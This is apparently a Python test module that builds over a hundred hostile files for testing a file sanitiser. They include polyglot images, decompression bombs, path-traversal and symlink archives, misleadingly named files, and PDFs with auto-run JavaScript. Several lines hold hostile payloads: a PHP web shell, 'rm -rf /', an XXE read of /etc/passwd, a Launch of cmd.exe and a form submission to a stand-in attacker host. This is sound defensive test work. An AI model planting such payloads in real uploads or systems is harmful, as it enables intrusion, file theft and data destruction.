"""More than a hundred hostile files, made by code: name and content. None may come back as anything but harmless."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from pypdf import PdfReader, PdfWriter

from tests.files import made
from tests.files.made import CANARY, chunk, pdf, png_that_claims, stream

Hostile = tuple[str, bytes]

SCRIPT = f"<script>{CANARY}</script>".encode()
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
ACTION = f"<< /S /JavaScript /JS (app.alert('{CANARY}')) >>"


def archive(*names: str, content: bytes = b"x") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made_of:
        for name in names:
            made_of.writestr(name, content)
    return held.getvalue()


def everything() -> list[Hostile]:
    return [
        *polyglots(), *broken_pictures(), *bombs(), *lying_names(), *other_kinds(), *archives(), *acting_papers(),
        *odd_papers(),
    ]  # fmt: skip


def polyglots() -> Iterator[Hostile]:
    """A sound picture or PDF that is something else as well."""
    tails = {
        "zip": archive("evil.html", content=HTML), "html": HTML, "svg": SVG, "php": b"<?php system($_GET[0]); ?>",
        "exe": b"MZ\x90\0" + CANARY.encode(), "pdf": pdf(catalog=f"/OpenAction {ACTION}"), "gz": gzip.compress(HTML),
        "jar": archive("META-INF/MANIFEST.MF", "Evil.class"),
    }  # fmt: skip
    for name, make in {**made.PICTURES, "letter.pdf": pdf}.items():
        for tail, content in tails.items():
            yield f"{name}.{tail}", make() + content
    yield "gif-and-script.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;" + SCRIPT
    yield "comment.jpg", b"\xff\xd8\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + made.jpeg()[2:]
    yield "text-chunk.png", made.png()[:33] + chunk(b"tEXt", b"Comment\0" + HTML) + made.png()[33:]
    yield "own-chunk.png", made.png()[:33] + chunk(b"prIv", SVG) + made.png()[33:]


def broken_pictures() -> Iterator[Hostile]:
    for name, make in made.PICTURES.items():
        whole = make()
        for share in (10, 50, 90):
            yield f"cut-at-{share}-{name}", whole[: len(whole) * share // 100]
        yield f"only-its-magic-{name}", whole[:16]
        yield f"filled-with-ff-{name}", whole[:24] + b"\xff" * 5000
        yield f"turned-inside-out-{name}", whole[:40] + whole[:39:-1]
    yield "wrong-sum.png", made.png()[:40] + b"\0\0\0\0" + made.png()[44:]
    yield "no-size.png", png_that_claims(0, 0)


def bombs() -> Iterator[Hostile]:
    """Few bytes that ask for much memory."""
    huge = zlib.compress(b"\0" * 60_000_000, 1)
    yield "169-million-dots.png", png_that_claims(13_000, 13_000)
    yield "just-above.png", png_that_claims(8_000, 5_001)
    yield "four-billion.png", png_that_claims(65_535, 65_535)
    yield "too-wide.png", png_that_claims(2**31 - 1, 1)
    yield "text.png", png_that_claims(8, 8, chunk(b"zTXt", b"Comment\0\0" + huge))
    yield "profile.png", png_that_claims(8, 8, chunk(b"iCCP", b"Profile\0\0" + huge))
    yield "international.png", png_that_claims(8, 8, chunk(b"iTXt", b"XML:com.adobe.xmp\0\x01\0\0\0" + huge))
    at = made.jpeg().index(b"\xff\xc0") + 5
    yield "header.jpg", made.jpeg()[:at] + b"\xff\xff\xff\xff" + made.jpeg()[at + 4 :]
    yield "contents.pdf", pdf(more=(stream(huge, "/Filter /FlateDecode"),), page="/Thumb 4 0 R")
    twice = zlib.compress(huge)
    yield "twice.pdf", pdf(more=(stream(twice, "/Filter [/FlateDecode /FlateDecode] /Type /ObjStm /N 9 /First 9"),))


def lying_names() -> Iterator[Hostile]:
    """Sound content under a name that would make somebody, or some program, run it."""
    names = (
        "holiday.jpg.exe", "photo.png.html", "photo.php.png", "photo.svg", "photo.jpg%00.html", "photo.jpg\x00.html",
        "photo.\u202egnp.exe", "../../photo.html", "photo.html;.jpg", "photo.jpg .hta", ".htaccess", "con.jpg.scr",
    )  # fmt: skip
    yield from ((name, made.png()) for name in names)
    yield "a-pdf.jpg", pdf()
    yield "a-picture.pdf", made.jpeg()
    yield "a-picture.html", made.webp()


def other_kinds() -> Iterator[Hostile]:
    """What is not taken at all, under names that are."""
    beginnings = {
        "html": HTML, "svg": SVG, "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
        "exe": b"MZ\x90\0" * 20, "elf": b"\x7fELF" * 20, "shell": b"#!/bin/sh\nrm -rf /\n", "script": b"alert(1)//",
        "gif": b"GIF89a" + b"\0" * 40, "bmp": b"BM" + b"\0" * 60, "tiff": b"II*\0" + b"\0" * 60,
        "avif": b"\0\0\0\x1cftypavif\0\0\0\0mif1" + b"\0" * 60, "mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 60,
        "heic-of-nothing": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 60, "ico": b"\0\0\x01\0\x01\0" * 9,
        "wav": b"RIFF\0\0\0\0WAVEfmt " * 4, "ps": b"%!PS-Adobe-3.0\n" * 4, "rtf": b"{\\rtf1\\object\\objdata 01}",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 20, "swf": b"CWS\x0a" * 20, "eml": b"MIME-Version: 1.0\n" * 4,
        "lnk": b"L\0\0\0\x01\x14\x02\0" * 9, "class": b"\xca\xfe\xba\xbe" * 9, "sqlite": b"SQLite format 3\0" * 9,
        "utf-16": "<script>".encode("utf-16"), "utf-7": b"+ADw-script+AD4-", "nothing-but-nul": b"\0" * 100,
        "psd": b"8BPS\0\x01" * 9, "icns": b"icns" * 9, "jp2": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 40, "dot": b".",
    }  # fmt: skip
    for kind, content in beginnings.items():
        yield f"{kind}.jpg", content
    yield "space-before.pdf", b" " * 100 + pdf()
    yield "html-before.pdf", HTML + pdf()


def archives() -> Iterator[Hostile]:
    types, zeros = "[Content_Types].xml", b"\0" * 20_000_000
    yield "photos.zip", archive("photo.jpg")
    yield "photos.jpg", archive("../../../etc/passwd")
    yield "letter.docx", archive(types, "word/document.xml")
    yield "letter.docm", archive(types, "word/document.xml", "word/vbaProject.bin")
    yield "macro.pdf", archive(types, "word/document.xml", "word/vbaProject.bin")
    yield "table.xlsx", archive(types, "xl/workbook.xml")
    yield "talk.pptm", archive(types, "ppt/presentation.xml", "ppt/vbaProject.bin")
    yield "letter.odt", archive("mimetype", content=b"application/vnd.oasis.opendocument.text")
    yield "bomb.zip", archive("bomb", content=zeros)
    yield "bomb.docx", archive(types, "word/document.xml", content=zeros)
    yield "packed-photo.jpg.gz", gzip.compress(made.jpeg())
    yield "bomb.png", gzip.compress(zeros)
    yield "archive.7z", b"7z\xbc\xaf\x27\x1c" * 9
    yield "archive.rar", b"Rar!\x1a\x07\x01\0" * 9
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as tar:
        link = tarfile.TarInfo("photo.jpg")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(link)
    yield "photo.tar", held.getvalue()


def acting_papers() -> Iterator[Hostile]:
    """PDFs that do something: each is refused, none is quietly mended."""
    file = stream(HTML, "/Type /EmbeddedFile")
    spec = "<< /Type /Filespec /F (evil.exe) /EF << /F 4 0 R >> >>"

    def note(facts: str) -> str:
        return f"/Annots [<< /Type /Annot /Rect [0 0 9 9] {facts} >>]"

    yield "opens.pdf", pdf(catalog=f"/OpenAction {ACTION}")
    yield "opens-apart.pdf", pdf(catalog="/OpenAction 4 0 R", more=(ACTION,))
    yield "in-names.pdf", pdf(catalog=f"/Names << /JavaScript << /Names [(x) {ACTION}] >> >>")
    yield "in-hex.pdf", pdf(catalog=f"/OpenAction << /S /J#61vaScript /J#53 ({CANARY}) >>")
    yield "in-a-stream.pdf", pdf(catalog="/OpenAction << /S /JavaScript /JS 4 0 R >>", more=(stream(CANARY.encode()),))
    yield "after-another.pdf", pdf(catalog=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {ACTION} >>")
    yield "when-a-page-opens.pdf", pdf(page=f"/AA << /O {ACTION} >>")
    yield "when-it-closes.pdf", pdf(catalog=f"/AA << /WC {ACTION} >>")
    yield "by-a-click.pdf", pdf(page=note(f"/Subtype /Link /A {ACTION}"))
    yield "by-a-button.pdf", pdf(page=note(f"/Subtype /Widget /FT /Btn /MK << /CA (Go) >> /A {ACTION}"))
    yield "form.pdf", pdf(catalog="/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", more=(stream(HTML),))
    yield "counts.pdf", pdf(catalog=f"/AcroForm << /Fields [<< /T (x) /AA << /C {ACTION} >> >>] >>")
    for kind, facts in {
        "Launch": "/F (cmd.exe)", "SubmitForm": "/F (https://evil.example/)", "ImportData": "/F (x.fdf)",
        "GoToR": "/F (other.pdf) /D [0 /Fit]", "GoToE": "/T << /R /C /N (x) >>", "Sound": "/Sound 4 0 R",
        "Movie": "/T (x)", "Rendition": "/OP 0 /R << >>", "RichMediaExecute": "/CMD << /C (x) >>",
        "GoTo3DView": "/V 0",
    }.items():  # fmt: skip
        yield f"{kind.lower()}.pdf", pdf(page=note(f"/Subtype /Link /A << /S /{kind} {facts} >>"), more=(stream(b"x"),))
    yield "attached.pdf", pdf(catalog=f"/Names << /EmbeddedFiles << /Names [(x) {spec}] >> >>", more=(file,))
    yield "beside-it.pdf", pdf(catalog=f"/AF [{spec}]", more=(file,))
    yield "pinned.pdf", pdf(page=note(f"/Subtype /FileAttachment /FS {spec}"), more=(file,))
    for kind in ("RichMedia", "Screen", "Movie", "Sound", "3D"):
        yield f"holds-{kind.lower()}.pdf", pdf(page=note(f"/Subtype /{kind}"))
    yield (
        "from-elsewhere.pdf",
        pdf(more=(stream(b"", "/F (//evil.example/x)"),), page="/Resources << /XObject << /X 4 0 R >> >>"),
    )
    yield (
        "program.pdf",
        pdf(more=(stream(b"x", "/Type /XObject /Subtype /PS"),), page="/Resources << /XObject << /X 4 0 R >> >>"),
    )
    first = pdf()
    place = len(first)
    update = f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {ACTION} >>\nendobj\n"
    end = f"xref\n1 1\n{place:010} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev {first.rindex(b'xref', 0, -40)} >>\n"
    yield "added-later.pdf", first + f"{update}{end}startxref\n{place + len(update)}\n%%EOF\n".encode()
    yield "packed.pdf", packed(pdf(catalog=f"/OpenAction {ACTION}"))
    yield "locked.pdf", locked(pdf())
    yield "locked-for-nobody.pdf", locked(pdf(), "")


def packed(content: bytes) -> bytes:
    """The same, with its objects inside a compressed stream."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    objects = [one for one in writer._objects if one is not None]
    inside, plain = [], []
    for number, one in enumerate(objects, 1):
        held = io.BytesIO()
        one.write_to_stream(held)
        (plain if b"stream" in held.getvalue() else inside).append((number, held.getvalue()))
    root = next(number for number, one in enumerate(objects, 1) if dict(one).get("/Type") == "/Catalog")
    return _with_object_stream(inside, plain, root)


def _with_object_stream(inside: list[tuple[int, bytes]], plain: list[tuple[int, bytes]], root: int) -> bytes:
    body, index = b"", []
    for number, content in inside:
        index.append(f"{number} {len(body)}")
        body += content + b" "
    head = " ".join(index).encode() + b" "
    holder = len(inside) + len(plain) + 1
    facts = f"/Type /ObjStm /N {len(inside)} /First {len(head)} /Filter /FlateDecode"
    parts = [*plain, (holder, stream(zlib.compress(head + body), facts))]
    made_of, places = b"%PDF-1.7\n", {}
    for number, content in parts:
        places[number] = len(made_of)
        made_of += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    rows = [b"\0\0\0\0\0\0"]
    order = {number: place for place, (number, _) in enumerate(inside)}
    for number in range(1, holder + 2):
        if number in order:
            rows.append(struct.pack(">BIB", 2, holder, order[number]))
        else:
            rows.append(struct.pack(">BIB", 1, places.get(number, len(made_of)), 0))
    table = stream(b"".join(rows), f"/Type /XRef /Size {holder + 2} /W [1 4 1] /Root {root} 0 R")
    return made_of + f"{holder + 1} 0 obj\n".encode() + table + f"\nendobj\nstartxref\n{len(made_of)}\n%%EOF\n".encode()


def locked(content: bytes, word: str = "secret") -> bytes:
    writer, held = PdfWriter(clone_from=PdfReader(io.BytesIO(content))), io.BytesIO()
    writer.encrypt(word, "owner", algorithm="RC4-128")
    writer.write(held)
    return held.getvalue()


def odd_papers() -> Iterator[Hostile]:
    """PDFs that tell too much, never end, or are none."""
    yield (
        "tells.pdf",
        pdf(
            catalog="/Metadata 4 0 R",
            more=(stream(made.XMP, "/Type /Metadata"),),
            trailer=f"/Info << /Author ({CANARY}) >>",
        ),
    )
    facts = "/Type /XObject /Subtype /Image /Width 64 /Height 48 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    inside = "/Resources << /XObject << /P 4 0 R >> >>"
    yield "picture.pdf", pdf(more=(stream(made.jpeg(), f"{facts} /Filter /DCTDecode"),), page=inside)
    twice = zlib.compress(made.jpeg())
    yield "picture-packed.pdf", pdf(more=(stream(twice, f"{facts} /Filter [/FlateDecode /DCTDecode]"),), page=inside)
    yield "picture-2000.pdf", pdf(more=(stream(made.XMP, f"{facts} /Filter /JPXDecode"),), page=inside)
    yield "not-a-picture.pdf", pdf(more=(stream(HTML, f"{facts} /Filter /DCTDecode"),), page=inside)
    yield "301-pages.pdf", pdf(pages=301)
    yield "no-pages.pdf", pdf(pages=0)
    yield "its-own-page.pdf", pdf().replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")
    yield "its-own-length.pdf", pdf(more=("4 0 R",), page="/X 4 0 R")
    yield "deep.pdf", pdf(page="/X " + "[" * 20_000 + "]" * 20_000)
    yield "many-steps.pdf", pdf(more=tuple(f"<< /Next {number} 0 R >>" for number in range(5, 3000)), page="/X 4 0 R")
    yield "without-end.pdf", pdf()[:-30]
    yield "without-table.pdf", pdf().replace(b"xref", b"fxre")
    yield "only-its-magic.pdf", b"%PDF-1.7"
    yield "a-web-page.pdf", b"%PDF-1.7\n" + HTML
    yield "table-of-lies.pdf", pdf().replace(b"startxref\n", b"startxref\n9999")
